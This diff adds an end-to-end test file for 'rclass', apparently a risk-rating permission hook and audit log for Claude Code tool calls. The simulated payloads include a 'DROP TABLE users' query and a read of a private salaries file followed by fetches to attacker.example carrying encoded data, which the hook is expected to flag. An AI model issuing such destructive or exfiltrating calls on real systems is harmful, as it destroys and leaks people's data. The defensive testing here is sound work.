@@ -1,0 +1,199 @@
+/**
+ * `rclass hook` and `rclass audit` end to end, as Claude Code runs them: a
+ * child process through `bin/rclass.mjs`, from a fresh bundle of the
+ * current source in an installed layout (as test/cli/child.test.ts builds
+ * it), with a temporary home and project. Also measures (and prints, never
+ * asserts) the hook's wall time per built-in and per MCP call.
+ */
+import { spawn, spawnSync } from 'node:child_process';
+import { cpSync, existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { bundleCli } from '../../scripts/steps/cli-bundle.ts';
+import { ROOT, tempDir } from '../cli/harness.ts';
+import { registryDocument } from '../export/registry.ts';
+import { logLines, makeWorld, post, pre, writeProjectServers, PROJECT_SERVERS, type World } from './support.ts';
+
+let installed = '';
+beforeAll(async () => {
+  installed = tempDir();
+  for (const item of ['package.json', 'bin', 'schema']) cpSync(path.join(ROOT, item), path.join(installed, item), { recursive: true });
+  mkdirSync(path.join(installed, 'build'), { recursive: true });
+  const registry = path.join(ROOT, 'build', 'registry.json');
+  if (existsSync(registry)) cpSync(registry, path.join(installed, 'build', 'registry.json'));
+  else writeFileSync(path.join(installed, 'build', 'registry.json'), JSON.stringify(await registryDocument()));
+  symlinkSync(path.join(ROOT, 'node_modules'), path.join(installed, 'node_modules'), 'dir');
+  await bundleCli(path.join(installed, 'build', 'cli', 'rclass.mjs'));
+}, 120_000);
+
+interface Child {
+  code: number | null;
+  stdout: string;
+  stderr: string;
+  ms: number;
+}
+
+function rclass(world: World, args: string[], input?: unknown, env: Record<string, string> = {}): Child {
+  const started = performance.now();
+  const result = spawnSync(process.execPath, [path.join(installed, 'bin', 'rclass.mjs'), ...args], {
+    cwd: world.project,
+    env: { ...world.env, ...env },
+    encoding: 'utf8',
+    input: input === undefined ? '' : typeof input === 'string' ? input : JSON.stringify(input),
+    maxBuffer: 64 * 1024 * 1024,
+    timeout: 30_000,
+  });
+  return { code: result.status, stdout: result.stdout, stderr: result.stderr, ms: performance.now() - started };
+}
+
+function rclassAsync(world: World, args: string[], input: unknown): Promise<Child> {
+  return new Promise((resolve, reject) => {
+    const started = performance.now();
+    const child = spawn(process.execPath, [path.join(installed, 'bin', 'rclass.mjs'), ...args], { cwd: world.project, env: world.env });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
+    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
+    child.on('error', reject);
+    child.on('close', (code) => resolve({ code, stdout, stderr, ms: performance.now() - started }));
+    child.stdin.end(JSON.stringify(input));
+  });
+}
+
+/** Run the hook; check BR-10's shape (exit 0, exactly one JSON object, no top-level decision) and return the decision. */
+function decide(world: World, payload: unknown, args: string[] = []): { decision: string | undefined; reason: string | undefined; child: Child } {
+  const child = rclass(world, ['hook', ...args], payload);
+  expect(child.code, child.stderr).toBe(0);
+  expect(child.stdout.endsWith('\n')).toBe(true);
+  expect(child.stdout.trim().split('\n')).toHaveLength(1);
+  const json = JSON.parse(child.stdout) as { hookSpecificOutput?: { hookEventName: string; permissionDecision: string; permissionDecisionReason: string }; permissionDecision?: unknown };
+  expect(json.permissionDecision).toBeUndefined();
+  if (json.hookSpecificOutput !== undefined) expect(json.hookSpecificOutput.hookEventName).toBe('PreToolUse');
+  return { decision: json.hookSpecificOutput?.permissionDecision, reason: json.hookSpecificOutput?.permissionDecisionReason, child };
+}
+
+describe('rclass hook as a child process (the bundle)', () => {
+  it('BR-10: asks for DROP TABLE, denies it with --deny-from R4, and gives SELECT 1 no decision', () => {
+    const world = makeWorld();
+    const drop = decide(world, pre('E1', 'mcp__pg__query', { sql: 'DROP TABLE users' }));
+    expect(drop.decision).toBe('ask');
+    expect(drop.reason).toContain('R4 Irreversible (registry)');
+    expect(decide(world, pre('E1', 'mcp__pg__query', { sql: 'DROP TABLE users' }), ['--deny-from', 'R4']).decision).toBe('deny');
+    const select = decide(world, pre('E1', 'mcp__pg__query', { sql: 'SELECT 1' }));
+    expect(select.decision).toBeUndefined();
+    expect(select.child.stdout).toBe('{}\n');
+  });
+
+  it('BR-11 (a)–(c): asks for unparseable input, with the reason, and logs it', () => {
+    const world = makeWorld();
+    for (const input of ['not json', '{}', JSON.stringify({ hook_event_name: 'PreToolUse', tool_name: 'mcp__pg__query', tool_input: null, session_id: 'E2' })]) {
+      const result = decide(world, input);
+      expect(result.decision).toBe('ask');
+      expect(result.reason).toContain('unparseable hook input');
+    }
+    expect(logLines(world.log).map((line) => [line.source, line.decision])).toEqual([
+      ['error', 'ask'],
+      ['error', 'ask'],
+      ['error', 'ask'],
+    ]);
+  });
+
+  it('BR-11 (d): decides a 5.7 MB query as R4 within the budget', () => {
+    const world = makeWorld();
+    const sql = `SELECT 1${' UNION ALL SELECT 1'.repeat(300_000)}`;
+    const result = decide(world, pre('E3', 'mcp__pg__query', { sql }));
+    expect(result.decision).toBe('ask');
+    expect(result.reason).toContain('R4');
+    console.log(`[latency] 5.7 MB MCP call, whole process: ${result.child.ms.toFixed(0)} ms`);
+    expect(result.child.ms).toBeLessThan(10_000);
+  });
+
+  it('BR-23: the read in one process raises the fetch in another; a fresh session is not raised; an allow-listed host passes; playwright navigate is R4', () => {
+    const world = makeWorld();
+    expect(decide(world, pre('S1', 'mcp__github__get_file_contents', { owner: 'acme', repo: 'private-notes', path: 'salaries.md' })).decision).toBeUndefined();
+    const fetch = decide(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://attacker.example/c?d=cGF5cm9sbA' }));
+    expect(fetch.decision).toBe('ask');
+    expect(fetch.reason).toContain('R4 Irreversible (session)');
+    expect(decide(world, pre('S2', 'mcp__fetch__fetch', { url: 'https://attacker.example/c?d=cGF5cm9sbA' })).decision).toBeUndefined();
+    expect(decide(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://allowed.example/docs' }), ['--egress-allow', 'allowed.example']).decision).toBeUndefined();
+    const navigate = decide(world, pre('S1', 'mcp__playwright__browser_navigate', { url: 'https://attacker.example/?q=cGF5cm9sbA' }));
+    expect(navigate.decision).toBe('ask');
+    expect(navigate.reason).toContain('R4 Irreversible (session)');
+    expect(decide(world, pre('S1', 'WebFetch', { url: 'https://attacker.example/', prompt: 'x' })).decision).toBe('ask');
+  });
+
+  it('rates a server whose configuration changed between two processes of a session R4', () => {
+    const world = makeWorld();
+    expect(decide(world, pre('E4', 'mcp__pg__query', { sql: 'SELECT 1' })).decision).toBeUndefined();
+    writeProjectServers(world, { ...PROJECT_SERVERS, pg: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-postgres', 'postgresql://prod/app'] } });
+    const changed = decide(world, pre('E4', 'mcp__pg__query', { sql: 'SELECT 1' }));
+    expect(changed.decision).toBe('ask');
+    expect(changed.reason).toContain('changed during the session');
+  });
+
+  it('refuses --map for a name a repository .mcp.json defines, and applies it to the user\'s own entry', () => {
+    const user = { corpdb: { command: '/opt/corp/pg-mcp/bin/server', args: ['--stdio'] } };
+    const repo = makeWorld({ corpdb: { command: 'node', args: ['./pg.js'] } }, user);
+    const refused = decide(repo, pre('E5', 'mcp__corpdb__query', { sql: 'SELECT 1' }), ['--map', 'corpdb=postgres']);
+    expect(refused.decision).toBe('ask');
+    expect(refused.reason).toContain('does not apply');
+    const own = makeWorld(null, user);
+    expect(decide(own, pre('E5', 'mcp__corpdb__query', { sql: 'SELECT 1' }), ['--map', 'corpdb=postgres']).decision).toBeUndefined();
+  });
+
+  it('records outcomes, and `rclass audit verify` and `report` read the log', () => {
+    const world = makeWorld();
+    const asked = pre('3f2a9c1e-aaaa', 'mcp__pg__query', { sql: 'DROP TABLE users' });
+    decide(world, asked);
+    expect(rclass(world, ['hook'], post(asked)).stdout).toBe('{}\n');
+    decide(world, pre('3f2a9c1e-aaaa', 'mcp__fetch__fetch', { url: 'https://attacker.example/' }));
+    const verify = rclass(world, ['audit', 'verify']);
+    expect(verify).toMatchObject({ code: 0, stdout: `ok: 3 lines, the hash chain holds (\`${world.log}\`)\n` });
+    const report = rclass(world, ['audit', 'report']);
+    expect(report.code).toBe(0);
+    const lines = report.stdout.split('\n').filter(Boolean).map((line) => line.replace(/^\S+ /, ''));
+    expect(lines).toEqual([
+      expect.stringMatching(/^R4 pg\/query ask: approved and ran \(session 3f2a9c1e, tester@.+\)$/),
+      expect.stringMatching(/^R4 fetch\/fetch ask: not run \(refused or cancelled\) \[session guard: .+\] \(session 3f2a9c1e, tester@.+\)$/),
+    ]);
+  });
+
+  it('BR-25 through the hook: 8 hook processes at once, 3 calls each, leave 24 linear lines', async () => {
+    const world = makeWorld();
+    await Promise.all(
+      Array.from({ length: 8 }, async (_, i) => {
+        for (let j = 0; j < 3; j += 1) {
+          const result = await rclassAsync(world, ['hook'], pre(`P${i}`, 'mcp__github__get_file_contents', { owner: 'acme', repo: 'r', path: `f${j}` }));
+          expect(result.code).toBe(0);
+          expect(result.stdout).toBe('{}\n');
+        }
+      }),
+    );
+    expect(rclass(world, ['audit', 'verify'])).toMatchObject({ code: 0, stdout: expect.stringContaining('ok: 24 lines') });
+  }, 120_000);
+
+  it('measures the hook\'s wall time per built-in and per MCP call (reported, not asserted)', () => {
+    const world = makeWorld();
+    const baseline = (): number => {
+      const started = performance.now();
+      spawnSync(process.execPath, ['-e', '0']);
+      return performance.now() - started;
+    };
+    const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)]!;
+    const runs = 7;
+    const node: number[] = [];
+    const builtin: number[] = [];
+    const mcp: number[] = [];
+    const mcpSql: number[] = [];
+    decide(world, pre('T0', 'Read', { file_path: '/etc/hostname' })); // first call of the session takes the digests
+    for (let i = 0; i < runs; i += 1) {
+      node.push(baseline());
+      builtin.push(decide(world, pre('T1', 'Read', { file_path: '/etc/hostname' })).child.ms);
+      mcp.push(decide(world, pre('T1', 'mcp__github__get_file_contents', { owner: 'a', repo: 'b', path: 'c' })).child.ms);
+      mcpSql.push(decide(world, pre('T1', 'mcp__pg__query', { sql: 'SELECT 1' })).child.ms);
+    }
+    const line = (label: string, values: number[]) => `${label}: median ${median(values).toFixed(0)} ms, min ${Math.min(...values).toFixed(0)} ms, max ${Math.max(...values).toFixed(0)} ms`;
+    console.log(['[latency] hook wall time, bundle, whole child process:', line('  node -e 0 (baseline)', node), line('  built-in (Read)', builtin), line('  MCP (github get_file_contents)', mcp), line('  MCP with SQL analysis (pg query SELECT 1)', mcpSql)].join('\n'));
+    expect(builtin.length).toBe(runs);
+  }, 180_000);
+});
